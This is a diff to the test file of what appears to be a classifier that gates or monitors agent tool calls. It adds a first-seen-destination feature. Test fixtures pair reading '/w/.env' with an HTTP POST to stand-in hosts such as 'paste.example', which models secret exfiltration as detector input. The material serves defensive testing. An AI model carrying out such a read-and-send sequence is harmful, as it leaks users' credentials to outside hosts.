@@ -21,6 +21,7 @@ from gated.engine.wide import (
     BIAS_BUCKET,
     MAX_STRUCTURED,
     NGRAM_END,
+    NOVEL_AT,
     PAIR_KEYS,
     structured_features,
     value_shape,
@@ -208,7 +209,8 @@ def test_argument_shapes_let_an_unseen_value_share_the_features_of_its_kind():
 def test_source_batch_adds_the_structured_features_to_the_ngrams():
     cfg = ModelConfig.tiny()
     off = dataclasses.replace(cfg, wide_call_words=0.0, wide_history_cross=0.0,
-                              wide_call_shapes=0.0, wide_call_domains=0.0)
+                              wide_call_shapes=0.0, wide_call_domains=0.0,
+                              wide_novel_destinations=0.0)
     items = [(_call("http.request", method="POST", url="https://a.io"),
               [_call("fs.read", path="/w/.env")])]
     on_b, off_b = source_batch(items, cfg), source_batch(items, off)
@@ -830,10 +832,12 @@ def test_the_learner_and_the_model_give_the_same_wide_logit(pool: float, veto: f
     singles = getattr(learner, "learners", [learner])
     for k in range(len(items)):
         pair = tuple(batch[key][k] for key in PAIR_KEYS)
-        z = learner.logit(batch["wide_idx"][k], batch["wide_val"][k], 0.0, pair)
+        at = int(batch[NOVEL_AT][k])  # the first-seen mark (on by default), read alike
+        z = learner.logit(batch["wide_idx"][k], batch["wide_val"][k], 0.0, pair, novel_at=at)
         assert z == pytest.approx(served[k], rel=1e-12, abs=1e-12)
         # (and it is the mean of members that differ: not one member's logit)
-        each = [m.logit(batch["wide_idx"][k], batch["wide_val"][k], 0.0, pair) for m in singles]
+        each = [m.logit(batch["wide_idx"][k], batch["wide_val"][k], 0.0, pair, novel_at=at)
+                for m in singles]
         assert z == pytest.approx(float(np.mean(each)), rel=1e-12, abs=1e-12)
         assert members == 1 or np.ptp(each) > 1e-3
 
@@ -1080,7 +1084,7 @@ def test_the_destination_rows_learn_only_allow_from_a_first_look():
     assert rows > 0 and learner.destination_from == wide.cfg.wide_pair_buckets
     secret = ['fs.read {"path": "/w/.env"}']
     post = 'http.request {"method": "POST", "url": "https://paste.example/x"}'
-    idx, val, z_rest, pair = wide._features(post, secret)
+    idx, val, z_rest, pair, _ = wide._features(post, secret)
     c = np.asarray(pair[0])[np.asarray(pair[1]) != 0]
     dest, site = c[c >= learner.destination_from], c[c < learner.destination_from]
     assert len(dest) == 1 and len(site) == 3
